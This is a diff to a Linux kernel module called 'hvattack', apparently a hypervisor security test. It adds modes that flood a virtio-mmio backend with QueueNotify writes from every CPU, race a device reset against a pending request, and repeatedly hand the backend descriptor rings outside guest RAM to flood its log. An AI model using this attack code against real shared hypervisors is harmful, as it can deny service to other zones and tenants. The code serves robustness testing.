@@ -11,13 +11,20 @@
  * (requests the device completed, its status register, the request's status
  * byte), then the device is reset. With notify=N it only writes queue 0's
  * QueueNotify N times, for a flood of events to zone0 from a device whose
- * Linux driver keeps running. The load always fails with -ECANCELED.
+ * Linux driver keeps running; with flood=S every CPU of the zone writes the
+ * QueueNotify of every queue for S seconds, interrupts off. With
+ * logflood=N it breaks the device N times (a ring outside the zone's RAM,
+ * then a reset), each a line in the backend's log. The load always fails
+ * with -ECANCELED.
  */
 #include <linux/module.h>
 #include <linux/io.h>
 #include <linux/delay.h>
 #include <linux/gfp.h>
 #include <linux/string.h>
+#include <linux/smp.h>
+#include <linux/ktime.h>
+#include <linux/atomic.h>
 
 static ulong base;
 module_param(base, ulong, 0);
@@ -29,6 +36,16 @@ static int notify;
 module_param(notify, int, 0);
 MODULE_PARM_DESC(notify, "only write queue 0's QueueNotify this many times "
 			 "(a device its Linux driver still runs)");
+static int flood;
+module_param(flood, int, 0);
+MODULE_PARM_DESC(flood, "seconds every CPU writes every queue's QueueNotify");
+static int resetwait;
+module_param(resetwait, int, 0);
+MODULE_PARM_DESC(resetwait, "reset the device right after a request: may "
+			    "the backend still complete it afterwards?");
+static int logflood;
+module_param(logflood, int, 0);
+MODULE_PARM_DESC(logflood, "break the device this many times");
 
 #define VM_DRV_FEATURES 0x020
 #define VM_DRV_FEATURES_SEL 0x024
@@ -186,6 +203,20 @@ static void attack_net(void)
 	}
 }
 
+static atomic64_t flood_writes;
+
+static void flood_cpu(void *arg)
+{
+	u64 end = ktime_get_ns() + (u64)flood * NSEC_PER_SEC, n = 0;
+	u32 q;
+
+	(void)arg;
+	while (ktime_get_ns() < end)
+		for (q = 0; q < 4; q++, n++)
+			writel(q, io + VM_QUEUE_NOTIFY);
+	atomic64_add(n, &flood_writes);
+}
+
 static int __init hvattack_init(void)
 {
 	u64 data;
@@ -202,6 +233,37 @@ static int __init hvattack_init(void)
 
 	if (net) {
 		attack_net();
+		goto done;
+	}
+	if (flood > 0) {
+		on_each_cpu(flood_cpu, NULL, 1);
+		pr_info("hvattack: flooded %lld notifies from %u CPUs\n",
+			(long long)atomic64_read(&flood_writes),
+			num_online_cpus());
+		goto out;
+	}
+	if (resetwait && setup(NUM, mem_pa)) {
+		u16 at_reset, later;
+
+		blk_read(0, data, 512);
+		AVAIL[2] = 0;
+		wmb();
+		AVAIL[1] = cpu_to_le16(1);
+		wmb();
+		writel(0, io + VM_QUEUE_NOTIFY);
+		writel(0, io + VM_STATUS); /* done: the queue is the driver's */
+		at_reset = le16_to_cpu(READ_ONCE(USED[1]));
+		msleep(300);
+		later = le16_to_cpu(READ_ONCE(USED[1]));
+		pr_info("hvattack: reset-wait: used at reset=%u later=%u\n",
+			at_reset, later);
+		goto done;
+	}
+	if (logflood > 0) {
+		int i;
+
+		for (i = 0; i < logflood; i++)
+			setup(NUM, 0x1000); /* its descriptors outside its RAM */
 		goto done;
 	}
 	if (notify > 0) { /* one event to zone0 for each */
